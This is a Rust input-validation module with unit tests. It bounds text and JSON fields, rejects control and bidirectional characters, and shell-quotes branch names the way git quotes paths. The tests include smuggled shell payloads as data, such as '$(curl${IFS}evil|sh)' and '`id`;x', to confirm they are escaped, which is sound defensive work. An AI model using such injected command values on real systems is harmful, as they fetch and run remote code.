//! What nexo accepts, so that whatever it accepts it can read back and
//! put into a view or a commit message: no control characters in one-line
//! fields, bounded lengths, and JSON values nested well inside what the
//! reader can parse (serde_json stops at 128 levels). Pure: unit-tested
//! without files. The limits are documented in docs/format.md.

use serde_json::Value;

use crate::core::error::{Error, ErrorKind, Result};

/// The kinds of text field, each with its own rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Text {
    /// Names and labels: owner, actor, sid, checkpoint_label, ... One line
    /// of printable text.
    Name,
    /// A goal or step title. Shown on one line (a commit subject takes its
    /// first line), but line breaks and tabs are accepted because agents
    /// written against the original send them; other control characters
    /// and bidirectional overrides are not.
    Line,
    /// Summary, evidence, notes, next action: may span lines.
    Prose,
}

impl Text {
    pub fn max_chars(self) -> usize {
        match self {
            Text::Name => 256,
            Text::Line => 1_000,
            Text::Prose => 20_000,
        }
    }
}

/// The deepest nesting accepted in `shared_state` and `state_patch` (an
/// object inside an object counts two). The event that carries such a
/// value sits a few levels deeper still, far inside the reader's 128.
pub const MAX_DEPTH: usize = 32;
/// The largest `shared_state` or `state_patch`, as compact JSON.
pub const MAX_JSON_BYTES: usize = 256 * 1024;
/// The most steps a run may be opened with.
pub const MAX_STEPS: usize = 1_000;

/// Paths and repairable problems an answer lists in full, at most; past
/// it they are counted. Every view of 100,000 runs is 400,000 paths: a
/// list no person or agent reads, held in memory to print it.
pub const LISTED: usize = 1_000;

/// A count of nothing left out is not written (serde's
/// `skip_serializing_if`).
pub fn is_zero(n: &usize) -> bool {
    *n == 0
}

/// `LISTED`, or in debug builds `NEXO_TEST_LISTED`, so that a test of a
/// few paths takes the path of many.
pub fn listed() -> usize {
    crate::trace::test_size("LISTED", LISTED)
}

/// Bidirectional-text controls, which make text display differently from
/// what it is (CVE-2021-42574); refused in one-line fields.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Checks a text field; `field` names it in the caller's terms.
pub fn text(field: &str, value: &str, kind: Text) -> Result<()> {
    let spacing = |c: char| matches!(c, '\n' | '\t' | '\r');
    let refused = |c: char| match kind {
        Text::Prose => c.is_control() && !spacing(c),
        Text::Line => (c.is_control() && !spacing(c)) || is_bidi_control(c),
        Text::Name => c.is_control() || is_bidi_control(c),
    };
    // Every line of every history is checked on each fold (`check`): the
    // common ASCII text is judged byte by byte, without decoding.
    let (count, bad) = if value.is_ascii() {
        let bad = value.bytes().position(|b| refused(b as char));
        (
            value.len(),
            bad.map(|at| (at, value.as_bytes()[at] as char)),
        )
    } else {
        let bad = value.chars().enumerate().find(|&(_, c)| refused(c));
        (value.chars().count(), bad)
    };
    let field = field.to_string();
    if count > kind.max_chars() {
        let max = kind.max_chars();
        return Err(Error::naming(ErrorKind::Invalid, move |name| {
            format!(
                "{} is {count} characters long; the limit is {max} (put long material in a file and reference it in {})",
                name(&field),
                name("evidence")
            )
        }));
    }
    if let Some((at, c)) = bad {
        let allowed = match kind {
            Text::Prose | Text::Line => "only line breaks and tabs are allowed",
            Text::Name => "it must be a single line of printable text",
        };
        return Err(Error::naming(ErrorKind::Invalid, move |name| {
            format!(
                "{} contains the control character {} at position {at}; {allowed}",
                name(&field),
                c.escape_unicode()
            )
        }));
    }
    Ok(())
}

/// How much of a caller's value an error message quotes: an error that
/// echoed a 10 MB value whole would be a 10 MB answer.
pub const QUOTE_CHARS: usize = 64;

/// The longest message made from a parser's error, which may quote a
/// whole value (serde does). Room for the longest list of a tool's fields
/// that serde gives when one is unknown (`call::accepted_fields` reads it).
pub const MAX_MESSAGE_CHARS: usize = 1_000;

/// A caller's value as an error quotes it: in quotes and escaped, cut after
/// [`QUOTE_CHARS`] characters with how long it was.
pub struct Quoted<'a>(&'a str);

/// See [`Quoted`].
pub fn quote(value: &str) -> Quoted<'_> {
    Quoted(value)
}

impl std::fmt::Display for Quoted<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self.0.char_indices().nth(QUOTE_CHARS) {
            None => write!(f, "{:?}", self.0),
            Some((cut, _)) => write!(
                f,
                "{:?}… ({} characters)",
                &self.0[..cut],
                self.0.chars().count()
            ),
        }
    }
}

/// A name nexo did not choose (a ref, a worktree's folder) as a message
/// or a hint prints it: bare when every character is plain, else quoted as
/// git quotes a path. Plain is what a shell reads as one word and a person
/// reads as written: ASCII letters and digits, `-_./+,=@%:`, and letters and
/// digits of any script (git with `core.quotePath` off). Anything else puts
/// the name in double quotes, with `"` and `\` escaped, control characters
/// as git writes them (`\t`, `\n`, ..., else octal), and other characters
/// that are not letters or digits (invisible ones, direction overrides) as
/// the octal of their bytes, as git writes every non-ASCII byte. `$` and
/// `` ` `` are escaped too, so a quoted name pasted into a shell's double
/// quotes is the name, not a command. One function, so every hint quotes a
/// hostile branch name the same way.
pub fn quote_name(name: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| {
        c.is_ascii_alphanumeric()
            || "-_./+,=@%:".contains(c)
            || (!c.is_ascii() && c.is_alphanumeric())
    };
    if !name.is_empty() && name.chars().all(plain) {
        return std::borrow::Cow::Borrowed(name);
    }
    let mut out = String::with_capacity(name.len() + 2);
    out.push('"');
    for c in name.chars() {
        match c {
            '"' | '\\' | '$' | '`' => {
                out.push('\\');
                out.push(c);
            }
            '\u{7}' => out.push_str("\\a"),
            '\u{8}' => out.push_str("\\b"),
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\u{b}' => out.push_str("\\v"),
            '\u{c}' => out.push_str("\\f"),
            '\r' => out.push_str("\\r"),
            c if c.is_ascii_control() || (!c.is_ascii() && !c.is_alphanumeric()) => {
                let mut bytes = [0; 4];
                for b in c.encode_utf8(&mut bytes).bytes() {
                    out.push_str(&format!("\\{b:03o}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('"');
    std::borrow::Cow::Owned(out)
}

/// `message` cut in its middle to [`MAX_MESSAGE_CHARS`]: its start names
/// the problem and its end what was expected and where.
pub fn clip_message(message: String) -> String {
    let count = message.chars().count();
    if count <= MAX_MESSAGE_CHARS {
        return message;
    }
    let keep = MAX_MESSAGE_CHARS / 2;
    let head: String = message.chars().take(keep).collect();
    let tail: String = message.chars().skip(count - keep).collect();
    format!("{head} … {tail}")
}

/// `text` for an optional field.
pub fn opt_text(field: &str, value: Option<&str>, kind: Text) -> Result<()> {
    value.map_or(Ok(()), |v| text(field, v, kind))
}

/// How deeply `value` nests: a scalar is 0, `{}` or `[]` is 1.
pub fn depth(value: &Value) -> usize {
    // Iterative, so a hostile value cannot overflow the stack here.
    let mut deepest = 0;
    let mut stack = vec![(value, 0usize)];
    while let Some((v, d)) = stack.pop() {
        match v {
            Value::Array(items) => {
                deepest = deepest.max(d + 1);
                stack.extend(items.iter().map(|i| (i, d + 1)));
            }
            Value::Object(map) => {
                deepest = deepest.max(d + 1);
                stack.extend(map.values().map(|i| (i, d + 1)));
            }
            _ => deepest = deepest.max(d),
        }
    }
    deepest
}

/// Checks a JSON value a caller stores (`shared_state`, `state_patch`).
pub fn json(field: &str, value: &Value) -> Result<()> {
    let d = depth(value);
    let field = field.to_string();
    if d > MAX_DEPTH {
        return Err(Error::naming(ErrorKind::Invalid, move |name| {
            format!(
                "{} nests {d} levels deep; the limit is {MAX_DEPTH}: flatten it",
                name(&field)
            )
        }));
    }
    let size = serde_json::to_vec(value).map_or(usize::MAX, |v| v.len());
    if size > MAX_JSON_BYTES {
        return Err(Error::naming(ErrorKind::Invalid, move |name| {
            format!(
                "{} is {size} bytes as JSON; the limit is {MAX_JSON_BYTES} (keep large data in files and store their paths)",
                name(&field)
            )
        }));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_values_and_parser_messages_are_clipped() {
        assert_eq!(quote("ab\n").to_string(), "\"ab\\n\"");
        let long = "é".repeat(10_000_000);
        let q = quote(&long).to_string();
        assert!(q.len() < 200 && q.ends_with("(10000000 characters)"), "{q}");
        let m = clip_message(format!("invalid type: {long}, expected u32 at line 1"));
        assert!(
            m.chars().count() <= MAX_MESSAGE_CHARS + 3 && m.ends_with("at line 1"),
            "{}",
            m.len()
        );
    }

    #[test]
    fn names_are_quoted_as_git_quotes_paths_only_when_they_need_it() {
        assert_eq!(quote_name("origin/feature-1.2"), "origin/feature-1.2");
        assert_eq!(quote_name("café"), "café", "letters of any script");
        assert_eq!(quote_name(""), "\"\"");
        assert_eq!(quote_name("a b"), "\"a b\"");
        assert_eq!(quote_name("x\u{1b}[31m"), "\"x\\033[31m\"");
        assert_eq!(quote_name("tab\there"), "\"tab\\there\"");
        assert_eq!(quote_name("say\"hi\"\\"), "\"say\\\"hi\\\"\\\\\"");
        assert_eq!(
            quote_name("$(curl${IFS}evil|sh)"),
            "\"\\$(curl\\${IFS}evil|sh)\""
        );
        assert_eq!(quote_name("`id`;x"), "\"\\`id\\`;x\"");
        assert_eq!(quote_name("a\u{202E}b"), "\"a\\342\\200\\256b\"");
    }
    use serde_json::json;

    #[test]
    fn one_line_fields_refuse_control_characters() {
        assert!(text("goal", "Ship v3", Text::Line).is_ok());
        assert!(text("goal", "two\nlines", Text::Line).is_ok());
        assert!(text("goal", "\u{202E}evil", Text::Line).is_err());
        let e = text("goal", "a\u{0}b", Text::Line).unwrap_err();
        assert!(
            e.message
                .contains("goal contains the control character \\u{0} at position 1"),
            "{}",
            e.message
        );
        assert!(text("owner", "a\nb", Text::Name).is_err());
        assert!(text("owner", "a\tb", Text::Name).is_err());
        assert!(text("owner", "\u{1b}[31mred", Text::Name).is_err());
        assert!(text("owner", "\u{202E}evil", Text::Name).is_err());
        assert!(
            text("owner", "\u{85}", Text::Name).is_err(),
            "C1 controls too"
        );
    }

    #[test]
    fn prose_keeps_newlines_and_tabs_but_not_nul() {
        assert!(text("summary", "line 1\n\tline 2\r\n", Text::Prose).is_ok());
        assert!(text("summary", "nul \u{0}", Text::Prose).is_err());
        assert!(text("summary", "bell \u{7}", Text::Prose).is_err());
    }

    #[test]
    fn lengths_are_counted_in_characters() {
        assert!(text("owner", &"é".repeat(256), Text::Name).is_ok());
        let e = text("owner", &"é".repeat(257), Text::Name).unwrap_err();
        assert!(e.message.contains("257 characters long; the limit is 256"));
        assert!(text("summary", &"x".repeat(20_000), Text::Prose).is_ok());
        assert!(text("summary", &"x".repeat(20_001), Text::Prose).is_err());
    }

    fn nested(levels: usize) -> Value {
        let mut v = json!(1);
        for _ in 0..levels {
            v = json!({ "k": v });
        }
        v
    }

    #[test]
    fn depth_counts_containers() {
        assert_eq!(depth(&json!(1)), 0);
        assert_eq!(depth(&json!({})), 1);
        assert_eq!(depth(&json!({"a": [1, {"b": 2}]})), 3);
        assert_eq!(depth(&nested(126)), 126);
    }

    #[test]
    fn json_values_are_bounded_in_depth_and_size() {
        assert!(json("shared_state", &nested(MAX_DEPTH)).is_ok());
        let e = json("shared_state", &nested(MAX_DEPTH + 1)).unwrap_err();
        assert!(
            e.message.contains("nests 33 levels deep; the limit is 32"),
            "{}",
            e.message
        );
        let big = json!({ "blob": "x".repeat(MAX_JSON_BYTES) });
        assert!(
            json("state_patch", &big)
                .unwrap_err()
                .message
                .contains("state_patch is")
        );
    }

    #[test]
    fn the_deepest_accepted_event_reads_back() {
        // An event wraps the value in a few more levels; the reader must
        // still parse it (serde_json's limit is 128).
        let line = json!({"data": {"shared_state": nested(MAX_DEPTH)}}).to_string();
        assert!(serde_json::from_str::<Value>(&line).is_ok());
    }
}
